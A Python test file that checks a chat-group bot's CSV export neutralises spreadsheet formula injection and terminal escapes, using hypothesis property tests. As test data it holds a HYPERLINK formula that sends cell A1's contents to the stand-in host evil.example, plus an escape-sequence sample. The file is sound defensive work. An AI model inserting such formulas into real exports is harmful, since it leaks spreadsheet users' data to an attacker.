"""Every CSV groupbot writes: no cell can start a formula, numbers stay numbers, and any text
read back is the original or `'` + the original."""

import csv
import io
import re
from types import SimpleNamespace

from hypothesis import given, settings
from hypothesis import strategies as st

from groupbot.domain.inventory import EXPORT_FIELDS
from groupbot.reports.csv_safe import DANGEROUS_START, SafeDictWriter, SafeWriter, safe_cell
from groupbot.reports.digest_csv import TABLE_COLUMNS, table_csv

NUMBER = re.compile(r"-?[0-9]+")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
# Text without the controls csv_safe replaces (tab, LF and CR are carried faithfully).
CELL_TEXT = st.text(st.characters(exclude_categories=("Cs",),
                                  exclude_characters=[chr(c) for c in (*range(0x00, 0x09), 0x0b,
                                                      0x0c, *range(0x0e, 0x20),
                                                      *range(0x7f, 0xa0))]),
                    max_size=30)
DANGEROUS_TEXT = st.tuples(st.sampled_from(DANGEROUS_START), CELL_TEXT).map("".join)
ANY_TEXT = st.one_of(CELL_TEXT, DANGEROUS_TEXT)


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_neutralised(original: str, cell: str) -> None:
    if original.startswith(DANGEROUS_START):
        assert cell == "'" + original
    else:
        assert cell == original
    assert not cell.startswith(DANGEROUS_START)


def test_the_rule():
    assert safe_cell(HYPERLINK) == "'" + HYPERLINK
    for start in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("消防群") == "消防群" and safe_cell("a=1") == "a=1"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) == ""
    assert safe_cell("-3") == "'-3"  # text that looks like a number is still text
    assert safe_cell(True) == "True"
    assert safe_cell("\x1b]0;owned\x07群") == "?]0;owned?群"  # no terminal escapes
    assert safe_cell("\x1b=1") == "?=1"  # not dangerous once the ESC is gone
    assert safe_cell("\u009b31m") == "?31m"  # 8-bit CSI


def test_digest_table_neutralises_titles_and_purposes_and_keeps_numbers():
    row = SimpleNamespace(platform="telegram", chat_id="-1001234", title=HYPERLINK,
                          status="active", purpose="@SUM(1)", member_count=25, messages_7d=-0,
                          after_hours_7d=3, photos_7d=0)
    header, cells = read_back(table_csv([row]).decode("utf-8-sig"))
    assert tuple(header) == TABLE_COLUMNS
    assert cells == ["telegram", "-1001234", "'" + HYPERLINK, "active", "'@SUM(1)", "25", "0",
                     "3", "0"]


def test_export_writer_keeps_the_header_and_numbers():
    out = io.StringIO()
    writer = SafeDictWriter(out, EXPORT_FIELDS, lineterminator="\n")
    writer.writeheader()
    writer.writerow({"chat_id": -1001, "title": "-3", "purpose": None, "members_seen": 2})
    header, cells = read_back(out.getvalue())
    assert tuple(header) == EXPORT_FIELDS
    assert dict(zip(header, cells, strict=True))["chat_id"] == "-1001"
    assert dict(zip(header, cells, strict=True))["title"] == "'-3"


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(ANY_TEXT, min_size=1, max_size=5), min_size=1, max_size=5))
def test_any_text_through_the_plain_writer(rows):
    out = io.StringIO()
    SafeWriter(out, lineterminator="\n").writerows(rows)
    back = read_back(out.getvalue())
    assert len(back) == len(rows)
    for row, cells in zip(rows, back, strict=True):
        for original, cell in zip(row, cells, strict=True):
            assert_neutralised(original, cell)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.fixed_dictionaries({"title": ANY_TEXT, "purpose": ANY_TEXT,
                                       "owner": ANY_TEXT, "chat_id": st.integers()}),
                min_size=1, max_size=5))
def test_any_text_through_the_export_writer(rows):
    out = io.StringIO()
    writer = SafeDictWriter(out, EXPORT_FIELDS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    header, *back = read_back(out.getvalue())
    for row, cells in zip(rows, back, strict=True):
        got = dict(zip(header, cells, strict=True))
        assert got["chat_id"] == str(row["chat_id"])
        for field in ("title", "purpose", "owner"):
            assert_neutralised(row[field], got[field])


@settings(max_examples=100, deadline=None)
@given(st.lists(st.tuples(ANY_TEXT, ANY_TEXT, ANY_TEXT), min_size=1, max_size=5))
def test_any_text_through_the_digest_table(rows):
    table = [SimpleNamespace(platform="wechat", chat_id=chat, title=title, status="active",
                             purpose=purpose, member_count=None, messages_7d=1,
                             after_hours_7d=0, photos_7d=0) for chat, title, purpose in rows]
    back = read_back(table_csv(table).decode("utf-8-sig"))[1:]
    for (chat, title, purpose), cells in zip(rows, back, strict=True):
        if not re.fullmatch(r"0|-?[1-9][0-9]{0,18}", chat):  # plain integers go out as numbers
            assert_neutralised(chat, cells[1])
        assert_neutralised(title, cells[2])
        assert_neutralised(purpose, cells[4])
        assert cells[5] == ""
    for cells in back:  # only numbers may start with "-": they are numbers, not formulas
        assert not any(c.startswith(DANGEROUS_START) and not NUMBER.fullmatch(c) for c in cells)
